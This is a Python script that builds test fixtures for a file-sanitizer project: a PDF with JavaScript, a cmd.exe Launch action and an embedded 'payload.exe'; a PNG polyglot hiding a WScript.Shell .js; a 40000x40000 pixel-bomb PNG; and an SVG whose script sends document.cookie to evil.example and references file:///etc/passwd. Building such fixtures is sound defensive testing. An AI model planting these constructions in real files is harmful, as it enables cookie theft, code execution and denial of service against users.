#!/usr/bin/env python3
"""Generates the PDF and image samples in this folder (issue 3).

    python3 samples/files/make_pdf_image_samples.py

Python standard library only; deterministic except password.pdf (qpdf puts
a random salt and ID into every encryption), which is written only when
qpdf is installed. Each file is a few KiB at most. The unit tests in
sanitizers/pdf_rasterize and sanitizers/image_reencode make their own inputs
at test time; these files are for the command line and end-to-end tests:

  active-content.pdf   3 pages; JavaScript (Names and OpenAction), Launch,
                       page AA, URI link, AcroForm field, embedded file,
                       XMP metadata, outlines. pdf.rasterize keeps 3 pages
                       ("Page 1" ... searchable) and none of those names.
  japanese-cid.pdf     "請求書の送付について" in a non-embedded Japanese CID
                       font (Adobe-Japan1, UniJIS-UCS2-H).
  japanese-vertical.pdf  the same text written vertically (UniJIS-UCS2-V).
  password.pdf         needs the user password "mukaika": blocked (pdf.encrypted).
  polyglot-zip.png     a 48x32 PNG with a ZIP (holding a .js) appended.
  pixel-bomb.png       a 40000x40000 PNG header with a tiny body: image.pixels.
  script.svg           an SVG with a script, an onload handler, a javascript:
                       link and references to a local file and a URL.
"""

import os
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
import io

HERE = os.path.dirname(os.path.abspath(__file__))


def assemble_pdf(objects):
    """objects[i] becomes object i+1; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % (i + 1) + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 3 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def stream(dictionary, data):
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def active_content_pdf(pages=3):
    kids = b" ".join(b"%d 0 R" % (12 + 3 * i) for i in range(pages))
    o = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names 6 0 R /AcroForm << /Fields [10 0 R] >> "
        b"/Metadata 11 0 R /AA << /WC 5 0 R >> /Outlines << /Count 0 >> >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Title (Quarterly report) /Author (attacker) >>",
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\);) >>",
        b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc.exe) >> >>",
        b"<< /JavaScript << /Names [(init) 4 0 R] >> /EmbeddedFiles << /Names [(payload.exe) 9 0 R] >> >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        stream(b"/Type /EmbeddedFile", b"stand-in for an embedded executable (payload.exe)"),
        b"<< /Type /Filespec /F (payload.exe) /EF << /F 8 0 R >> >>",
        b"<< /FT /Btn /T (button) /Rect [0 0 10 10] /Subtype /Widget /P 12 0 R /A 4 0 R >>",
        stream(b"/Type /Metadata /Subtype /XML", b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>secret-metadata</x:xmpmeta>"),
    ]
    for i in range(pages):
        page = 12 + 3 * i
        o.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 7 0 R >> >> "
                 b"/Contents %d 0 R /Annots [%d 0 R 10 0 R] /AA << /O 5 0 R /C 4 0 R >> >>" % (page + 1, page + 2))
        o.append(stream(b"", b"BT /F1 36 Tf 72 700 Td (Page %d) Tj ET" % (i + 1)))
        o.append(b"<< /Type /Annot /Subtype /Link /Rect [72 690 300 740] "
                 b"/A << /S /URI /URI (http://evil.example/x) >> /Border [0 0 0] >>")
    return assemble_pdf(o)


def japanese_cid_pdf(text, vertical):
    encoding = b"UniJIS-UCS2-V" if vertical else b"UniJIS-UCS2-H"
    hexed = text.encode("utf-16-be").hex().upper().encode()
    at = b"1 0 0 1 400 760 Tm" if vertical else b"1 0 0 1 60 700 Tm"
    return assemble_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Producer (make_pdf_image_samples.py) >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
        b"/Resources << /Font << /F1 6 0 R >> >> >>",
        stream(b"", b"BT /F1 28 Tf " + at + b" <" + hexed + b"> Tj ET"),
        b"<< /Type /Font /Subtype /Type0 /BaseFont /Ryumin-Light-" + encoding + b" /Encoding /" + encoding +
        b" /DescendantFonts [7 0 R] >>",
        b"<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Ryumin-Light /CIDSystemInfo << /Registry (Adobe) "
        b"/Ordering (Japan1) /Supplement 2 >> /FontDescriptor 8 0 R /DW 1000 >>",
        b"<< /Type /FontDescriptor /FontName /Ryumin-Light /Flags 6 /FontBBox [-170 -331 1024 903] "
        b"/ItalicAngle 0 /Ascent 723 /Descent -241 /CapHeight 709 /StemV 69 >>",
    ])


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png(width, height, rows):
    raw = b"".join(b"\x00" + r for r in rows)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
            png_chunk(b"IDAT", zlib.compress(raw, 9)) + png_chunk(b"IEND", b""))


def polyglot_png():
    rows = []
    for y in range(32):
        row = bytearray()
        for x in range(48):
            square = 8 <= x < 16 and 8 <= y < 16
            row += bytes((0, 0, 0)) if square else bytes((x * 5, y * 7, 200))
        rows.append(bytes(row))
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        info = zipfile.ZipInfo("invoice.js", date_time=(2024, 4, 1, 9, 0, 0))
        z.writestr(info, "new ActiveXObject('WScript.Shell').Run('calc.exe');\n")
    return png(48, 32, rows) + archive.getvalue()


def pixel_bomb_png():
    ihdr = struct.pack(">IIBBBBB", 40000, 40000, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64)) +
            png_chunk(b"IEND", b""))


SCRIPT_SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="240" height="120" onload="alert('onload')">
  <script type="text/javascript">fetch('http://evil.example/steal?c=' + document.cookie);</script>
  <rect width="240" height="120" fill="#dfe8f5"/>
  <image x="0" y="0" width="60" height="60" xlink:href="file:///etc/passwd"/>
  <image x="60" y="0" width="60" height="60" href="http://evil.example/track.png"/>
  <a href="javascript:alert('link')"><text x="20" y="80" font-size="28" fill="#203060">mukaika</text></a>
</svg>
"""


def main():
    files = {
        "active-content.pdf": active_content_pdf(3),
        "japanese-cid.pdf": japanese_cid_pdf("請求書の送付について", False),
        "japanese-vertical.pdf": japanese_cid_pdf("請求書の送付について", True),
        "polyglot-zip.png": polyglot_png(),
        "pixel-bomb.png": pixel_bomb_png(),
        "script.svg": SCRIPT_SVG,
    }
    for name, data in files.items():
        with open(os.path.join(HERE, name), "wb") as f:
            f.write(data)
    if shutil.which("qpdf"):
        with tempfile.TemporaryDirectory() as tmp:
            src = os.path.join(tmp, "in.pdf")
            with open(src, "wb") as f:
                f.write(active_content_pdf(1))
            subprocess.run(["qpdf", "--encrypt", "mukaika", "owner-secret", "256", "--", src,
                            os.path.join(HERE, "password.pdf")], check=True)
    else:
        print("qpdf is not installed: password.pdf not written", file=sys.stderr)


if __name__ == "__main__":
    main()
